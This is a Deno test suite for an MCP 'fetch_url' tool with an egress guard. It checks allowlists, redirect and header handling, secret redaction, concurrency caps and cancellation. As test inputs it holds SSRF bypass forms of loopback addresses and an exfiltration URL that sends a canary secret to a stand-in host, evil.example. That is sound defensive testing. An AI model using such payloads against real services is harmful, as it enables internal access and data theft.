/**
 * `fetch_url` through a real MCP client: the same egress guard as
 * `hookgate fetch`, refusals as tool errors, results redacted.
 */
import assert from "node:assert/strict";
import { startRecordingServer } from "../support/recording_server.ts";
import { type CallToolResult, startMcp, tempProject, textOf } from "../support/mcp_session.ts";
import { waitFor } from "../support/wait.ts";

const CANARY = "mcp-canary-secret-5f3a9c1e7b2d4086";

function scratch() {
  return tempProject(`WEBHOOK_SECRET=${CANARY}\n`);
}

function serverFixture(
  answer: Parameters<typeof startRecordingServer>[0],
): ReturnType<typeof startRecordingServer> & AsyncDisposable {
  const server = startRecordingServer(answer);
  return Object.assign(server, { [Symbol.asyncDispose]: () => server.close() });
}

function localEnv(port: number): Record<string, string> {
  return { EGRESS_ALLOW_HOSTS: `http://localhost:${port}`, EGRESS_ALLOW_PRIVATE: "localhost" };
}

/**
 * A scratch project, a recording server that answers with `answer`, and an MCP
 * session with only the fetch tool, allowed to reach that server unless `env`
 * says otherwise; all closed and removed at the end of the scope.
 */
async function fetchSession(
  answer: Parameters<typeof startRecordingServer>[0],
  env: (port: number) => Record<string, string> = localEnv,
) {
  await using stack = new AsyncDisposableStack();
  const project = stack.use(await scratch());
  const server = stack.use(serverFixture(answer));
  const port = Number(new URL(server.url).port);
  const mcp = stack.use(
    await startMcp({ cwd: project.dir, args: ["--tools", "fetch"], env: env(port) }),
  );
  const owned = stack.move();
  return { server, port, mcp, [Symbol.asyncDispose]: () => owned.disposeAsync() };
}

Deno.test("mcp fetch_url returns status, body and byte count of an allowlisted local server", async () => {
  await using session = await fetchSession(() => new Response("zen of the allowlist"));
  const { server, port, mcp } = session;
  const result = await mcp.callOk("fetch_url", { url: `http://localhost:${port}/zen` });
  assert.equal(result.ok, true);
  assert.equal(result.status, 200);
  assert.equal(result.body, "zen of the allowlist");
  assert.equal(result.truncated, false);
  assert.equal(result.bytes, 20);
  assert.equal(server.requests[0]?.path, "/zen");
  await mcp.close();
  assert.equal(await mcp.exited, 0, "the server ends cleanly when the client closes stdin");
});

Deno.test("mcp fetch_url reports a non-2xx answer as a result with ok=false, not a tool error", async () => {
  await using session = await fetchSession(() => new Response("rate limited", { status: 429 }));
  const { port, mcp } = session;
  const result = await mcp.call("fetch_url", { url: `http://localhost:${port}/` });
  assert.notEqual(result.isError, true);
  const content = result.structuredContent as Record<string, unknown>;
  assert.equal(content.ok, false);
  assert.equal(content.status, 429);
  assert.equal(content.body, "rate limited");
});

Deno.test("mcp fetch_url cuts the body at max_bytes and says so", async () => {
  await using session = await fetchSession(() => new Response("yyyy ".repeat(1000)));
  const { port, mcp } = session;
  const result = await mcp.callOk("fetch_url", {
    url: `http://localhost:${port}/`,
    max_bytes: 400,
  });
  // The last characters before the cap go, as many as a piece of a secret could have
  // (docs/redaction.md); the rest is kept as it came.
  const body = String(result.body);
  assert.ok(body.length > 200 && body.length < 400, body);
  assert.ok("yyyy ".repeat(80).startsWith(body), body);
  assert.equal(result.truncated, true);
});

Deno.test("mcp fetch_url denies an unlisted host with a tool error naming it and the allowlist, no request", async () => {
  await using session = await fetchSession(() => new Response("must not be fetched"), () => ({
    EGRESS_ALLOW_HOSTS: "api.github.com,api.weather.gov",
    EGRESS_ALLOW_PRIVATE: "localhost",
  }));
  const { server, port, mcp } = session;
  const result = await mcp.call("fetch_url", { url: `http://localhost:${port}/` });
  assert.equal(result.isError, true);
  assert.match(
    textOf(result),
    /egress to 'localhost' denied; allowed: \["api\.github\.com","api\.weather\.gov"\]/,
  );
  // Widening the allowlist is the operator's step, not one to hand an agent that edits files.
  assert.doesNotMatch(textOf(result), /add localhost|\.env/);
  assert.match(textOf(result), /the operator's decision/);
  assert.doesNotMatch(textOf(result), /redirect/);
  assert.equal(server.requests.length, 0);
});

Deno.test("mcp fetch_url refuses SSRF forms of a loopback address and requests nothing", async () => {
  await using session = await fetchSession(() => new Response("internal data"));
  const { server, port, mcp } = session;
  const forms = [
    `http://127.0.0.1:${port}/`,
    `http://2130706433:${port}/`,
    `http://[::ffff:127.0.0.1]:${port}/`,
    `http://localhost:${port}@127.0.0.1:${port}/`,
    `http://localhost:${port}\\@127.0.0.1/`,
  ];
  for (const url of forms) {
    const result = await mcp.call("fetch_url", { url });
    assert.equal(result.isError, true, `${url} was not refused: ${textOf(result)}`);
    assert.match(textOf(result), /denied/, url);
    assert.doesNotMatch(textOf(result), /internal data/);
  }
  assert.equal(server.requests.length, 0);
});

Deno.test("mcp fetch_url refuses a redirect to an unlisted host and never reaches it", async () => {
  await using project = await scratch();
  const dir = project.dir;
  let unlistedRequests = 0;
  const unlisted = Deno.serve({ hostname: "127.0.0.2", port: 0, onListen() {} }, () => {
    unlistedRequests++;
    return new Response("reached the unlisted host");
  });
  await using _unlisted = { [Symbol.asyncDispose]: () => unlisted.shutdown() };
  await using origin = serverFixture(() =>
    new Response(null, {
      status: 302,
      headers: { location: `http://127.0.0.2:${unlisted.addr.port}/` },
    })
  );
  const port = Number(new URL(origin.url).port);
  await using mcp = await startMcp({ cwd: dir, args: ["--tools", "fetch"], env: localEnv(port) });
  const result = await mcp.call("fetch_url", { url: `http://localhost:${port}/go` });
  assert.equal(result.isError, true);
  assert.match(textOf(result), /egress to '127\.0\.0\.2' denied; allowed: \["http:\/\/localhost:/);
  // The model asked for localhost: it is told the refused host came from a redirect.
  assert.match(textOf(result), /the URL you asked for redirected there \(after 1 redirect\)/);
  assert.doesNotMatch(textOf(result), /reached/);
  assert.equal(origin.requests.length, 1);
  assert.equal(unlistedRequests, 0);
});

Deno.test("mcp fetch_url never shows a secret hookgate knows, in a result, an error or stderr", async () => {
  await using session = await fetchSession(() =>
    new Response(`leaked ${CANARY} and Authorization: Bearer ${CANARY}`)
  );
  const { server, port, mcp } = session;
  const fetched = await mcp.call("fetch_url", { url: `http://localhost:${port}/` });
  const denied = await mcp.call("fetch_url", { url: `https://evil.example/?q=${CANARY}` });
  const malformed = await mcp.call("fetch_url", { url: 42, note: CANARY });
  assert.equal(server.requests.length, 1, "the allowed fetch did reach the server");
  assert.equal(denied.isError, true);
  assert.equal(malformed.isError, true);
  for (const result of [fetched, denied, malformed]) {
    assert.doesNotMatch(JSON.stringify(result), new RegExp(CANARY));
  }
  assert.match(textOf(fetched), /leaked \*\*\*redacted\*\*\*/);
  await mcp.close();
  assert.doesNotMatch(mcp.stderr(), new RegExp(CANARY));
  assert.deepEqual(mcp.protocolErrors(), [], "stdout carried protocol messages only");
});

Deno.test("mcp fetch_url sends a POST with the caller's headers and body", async () => {
  await using session = await fetchSession((request) =>
    new Response(`${request.method} ${new TextDecoder().decode(request.body)}`)
  );
  const { server, port, mcp } = session;
  const result = await mcp.callOk("fetch_url", {
    url: `http://localhost:${port}/items`,
    method: "POST",
    headers: { "content-type": "application/json", "x-request-id": "r-1" },
    body: '{"name":"widget"}',
  });
  assert.equal(result.body, 'POST {"name":"widget"}');
  const seen = server.requests[0];
  assert.equal(seen?.headers.get("content-type"), "application/json");
  assert.equal(seen?.headers.get("x-request-id"), "r-1");
  assert.match(seen?.headers.get("user-agent") ?? "", /^hookgate\//);
});

Deno.test("mcp fetch_url refuses a Host header, sending nothing", async () => {
  await using session = await fetchSession(() => new Response("must not be fetched"));
  const { server, port, mcp } = session;
  const result = await mcp.call("fetch_url", {
    url: `http://localhost:${port}/`,
    headers: { Host: "internal.example" },
  });
  assert.equal(result.isError, true);
  assert.match(textOf(result), /header 'Host' may not be set/);
  assert.equal(server.requests.length, 0);
});

Deno.test("mcp fetch_url does not carry the caller's headers through a redirect to another origin", async () => {
  await using project = await scratch();
  await using other = serverFixture(() => new Response("other origin"));
  const otherPort = Number(new URL(other.url).port);
  await using origin = serverFixture(() =>
    new Response(null, { status: 307, headers: { location: `http://localhost:${otherPort}/` } })
  );
  const port = Number(new URL(origin.url).port);
  await using mcp = await startMcp({
    cwd: project.dir,
    args: ["--tools", "fetch"],
    env: {
      EGRESS_ALLOW_HOSTS: `http://localhost:${port},http://localhost:${otherPort}`,
      EGRESS_ALLOW_PRIVATE: "localhost",
    },
  });
  const result = await mcp.callOk("fetch_url", {
    url: `http://localhost:${port}/`,
    headers: { authorization: "Bearer for-the-first-host-only" },
  });
  assert.equal(result.body, "other origin");
  assert.equal(result.redirects, 1);
  assert.equal(origin.requests[0]?.headers.get("authorization"), "Bearer for-the-first-host-only");
  assert.equal(other.requests[0]?.headers.get("authorization"), null);
});

Deno.test("mcp fetch_url runs a few calls at once, lets a few wait, and refuses the rest until they answer", async () => {
  // A server that holds every request until the test lets them all go.
  const release = Promise.withResolvers<void>();
  await using session = await fetchSession(async () => {
    await release.promise;
    return new Response("late");
  });
  const { port, mcp } = session;
  const calls = Array.from(
    { length: 30 },
    () => mcp.call("fetch_url", { url: `http://localhost:${port}/hang` }),
  );
  // 4 run and 16 wait: the other 10 are refused at once, while the rest still hang.
  const refused = await Promise.all(calls.slice(20));
  for (const result of refused) {
    assert.equal(result.isError, true);
    assert.match(textOf(result), /too many fetch_url calls at once/);
  }
  assert.ok(await waitFor(() => session.server.requests.length >= 4, 10_000));
  await new Promise((resolve) => setTimeout(resolve, 300));
  assert.equal(session.server.requests.length, 4, "more than 4 fetches ran at once");
  release.resolve();
  const answered = await Promise.all(calls.slice(0, 20));
  for (const result of answered) assert.notEqual(result.isError, true, textOf(result));
  assert.equal(session.server.requests.length, 20);
});

Deno.test("mcp fetch_url stays responsive after a page cut at the byte cap inside a URL's password", async () => {
  // Over the 1 MiB cap, the cut falls in a long run after `//user:`; a redactor that
  // backtracks over that run holds the server's only thread for minutes.
  const page = `see https://deploy:${"a".repeat(900_000)}${" ".repeat(200_000)}`;
  await using session = await fetchSession(() => new Response(page));
  const { port, mcp } = session;
  // Past the deadline the server is killed, so a wedged one fails the test at once.
  const call = async (path: string) => {
    try {
      return await mcp.client.callTool(
        { name: "fetch_url", arguments: { url: `http://localhost:${port}${path}` } },
        undefined,
        { timeout: 30_000 },
      ) as CallToolResult;
    } catch (error) {
      Deno.kill(mcp.pid, "SIGKILL");
      throw error;
    }
  };
  const hostile = await call("/big");
  assert.notEqual(hostile.isError, true, textOf(hostile));
  const content = hostile.structuredContent as Record<string, unknown>;
  assert.equal(content.truncated, true);
  assert.ok(String(content.body).startsWith("see https://deploy:aaaa"), textOf(hostile));
  const next = await call("/again");
  assert.notEqual(next.isError, true, textOf(next));
});

Deno.test("mcp fetch_url sends nothing for a call the client cancelled while it waited for a turn", async () => {
  // A server that holds every request until the test lets them all go.
  const release = Promise.withResolvers<void>();
  await using session = await fetchSession(async () => {
    await release.promise;
    return new Response("late");
  });
  const { server, port, mcp } = session;
  const running = Array.from(
    { length: 4 },
    () => mcp.call("fetch_url", { url: `http://localhost:${port}/hang` }),
  );
  assert.ok(await waitFor(() => server.requests.length === 4, 10_000));
  const regret = new AbortController();
  const cancelled = mcp.client.callTool(
    {
      name: "fetch_url",
      arguments: { url: `http://localhost:${port}/regret`, method: "DELETE" },
    },
    undefined,
    { signal: regret.signal },
  );
  regret.abort();
  await assert.rejects(cancelled);
  // The server reads its input in order: once it answers a ping, it has read the cancellation.
  await mcp.client.ping();
  release.resolve();
  for (const result of await Promise.all(running)) {
    assert.notEqual(result.isError, true, textOf(result));
  }
  // A call after the cancelled one is served in its turn: the cancelled one went before it.
  assert.equal((await mcp.callOk("fetch_url", { url: `http://localhost:${port}/after` })).ok, true);
  assert.deepEqual(server.requests.map((request) => request.path), [
    "/hang",
    "/hang",
    "/hang",
    "/hang",
    "/after",
  ]);
});
